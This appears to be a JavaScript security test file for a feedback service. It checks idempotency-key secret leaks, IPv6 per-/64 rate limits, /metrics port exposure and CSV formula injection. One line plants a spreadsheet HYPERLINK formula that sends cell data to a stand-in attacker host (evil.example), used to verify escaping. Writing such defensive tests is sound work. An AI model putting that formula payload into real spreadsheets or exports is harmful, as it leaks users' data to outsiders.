// leaks.mjs - smaller leaks and gaps (issue 19, point 7): an idempotency key replayed by
// another client, IPv6 clients taking a fresh allowance per address, /metrics on the
// service port, and CSV cells a spreadsheet would run as formulas.
import { env, exchange, freePort, sh, startServer, statuses } from '../lib.mjs';

export const name = 'leaks';

function post(port, headers, body) {
  const bytes = Buffer.from(body);
  return exchange(port, Buffer.concat([Buffer.from(
    'POST /api/v1/feedback HTTP/1.1\r\nHost: pakn\r\nContent-Type: application/json\r\n' +
    `Content-Length: ${bytes.length}\r\nConnection: close\r\n${headers}\r\n`), bytes]));
}

function replyOf(text) {
  const at = text.indexOf('\r\n\r\n');
  try { return JSON.parse(text.slice(at + 4)); } catch { return null; }
}

function get(port, target) {
  return exchange(port, `GET ${target} HTTP/1.1\r\nHost: pakn\r\nConnection: close\r\n\r\n`);
}

export async function run(t) {
  const key = `leak-${process.pid}-${Date.now()}`;
  const body = JSON.stringify({ item_code: 'DB-I03', rating: 3, kind: 'opinion', body: `Ý kiến ${key}` });
  const s = await startServer({ TRUSTED_PROXIES: '127.0.0.1', INTAKE_BURST: 3, INTAKE_RATE: 1 });
  try {
    // The same Idempotency-Key and text from two clients (two addresses behind the proxy).
    const first = await post(s.port, `X-Forwarded-For: 198.51.100.7\r\nIdempotency-Key: ${key}\r\n`, body);
    const other = await post(s.port, `X-Forwarded-For: 198.51.100.8\r\nIdempotency-Key: ${key}\r\n`, body);
    const a = replyOf(first.text);
    const b = replyOf(other.text);
    t.ok(statuses(first.text)[0] === 201, 'the first client\'s submission is stored (201)');
    t.ok(statuses(other.text)[0] === 201,
      `another client with the same key and text gets a submission of its own (got ${statuses(other.text)[0]})`);
    t.ok(a?.receipt?.secret && b?.receipt?.secret && a.receipt.secret !== b.receipt.secret &&
         !other.text.includes(a.receipt.secret),
      'another client never receives the first receipt\'s secret');
    const again = replyOf((await post(s.port, `X-Forwarded-For: 198.51.100.7\r\nIdempotency-Key: ${key}\r\n`, body)).text);
    t.ok(again?.receipt?.secret === a?.receipt?.secret, 'the first client\'s retry still gets its own receipt');

    // IPv6: the addresses of one /64 share one allowance (burst 3); the next /64 has its own.
    const ipv6 = [];
    for (const addr of ['2001:db8:7:1::1', '2001:db8:7:1::2', '2001:db8:7:1:ffff::3', '2001:db8:7:1:abcd::4', '2001:db8:7:2::1']) {
      const r = await post(s.port, `X-Real-IP: ${addr}\r\n`,
        JSON.stringify({ item_code: 'DB-I03', rating: 4, kind: 'opinion', body: `Từ ${addr}` }));
      ipv6.push(statuses(r.text)[0]);
    }
    t.ok(ipv6.join(',') === '201,201,201,429,201',
      `one IPv6 /64 is one client for the intake limit (statuses ${ipv6.join(',')})`);

    // /metrics is not on the service port.
    const m = await get(s.port, '/metrics');
    t.ok(statuses(m.text)[0] === 404 && !m.text.includes('pakn_requests_total') && replyOf(m.text)?.error,
      `/metrics on the service port is a JSON 404 (got ${statuses(m.text)[0]})`);
    const head = await exchange(s.port, 'HEAD /metrics HTTP/1.1\r\nHost: pakn\r\nConnection: close\r\n\r\n');
    t.ok(statuses(head.text)[0] === 404, 'HEAD /metrics on the service port is 404 too');

    // CSV: an item whose title a spreadsheet would take for a formula (titles come from
    // imported plan files). Put back afterwards.
    const psql = (q) => sh('psql', [env.url, '-qAt', '-v', 'ON_ERROR_STOP=1', '-c', q]).trim();
    const title = psql("SELECT title FROM plan_item WHERE code = 'DB-I03'");
    psql(`UPDATE plan_item SET title = '=HYPERLINK("http://evil.example/?"&A1,"Xem")' WHERE code = 'DB-I03'`);
    let csv;
    try {
      csv = (await get(s.port, '/api/v1/metrics/satisfaction?group_by=item&plan=DB-2026&format=csv')).text;
    } finally {
      psql(`UPDATE plan_item SET title = '${title.replaceAll("'", "''")}' WHERE code = 'DB-I03'`);
    }
    const row = csv.split('\r\n').find((l) => l.startsWith('DB-I03,'));
    t.ok(row !== undefined, 'the CSV lists the item');
    t.ok(row !== undefined && !/(^|,)=/.test(row) && row.includes('"\'=HYPERLINK('),
      `no CSV cell starts with a formula character; the title is quoted text after an apostrophe (${row})`);
  } finally {
    await s.stop();
  }

  // With metrics_listen, /metrics is served there, and only there.
  const mport = await freePort();
  const s2 = await startServer({ METRICS_LISTEN: `127.0.0.1:${mport}` });
  try {
    const there = await get(mport, '/metrics');
    t.ok(statuses(there.text)[0] === 200 && there.text.includes('pakn_requests_total'),
      '/metrics is served on metrics_listen');
    const other = await get(mport, '/api/v1/plans');
    t.ok(statuses(other.text)[0] === 404, 'metrics_listen serves nothing but /metrics');
    t.ok(statuses((await get(s2.port, '/metrics')).text)[0] === 404,
      'the service port still answers 404 for /metrics');
  } finally {
    await s2.stop();
  }
}
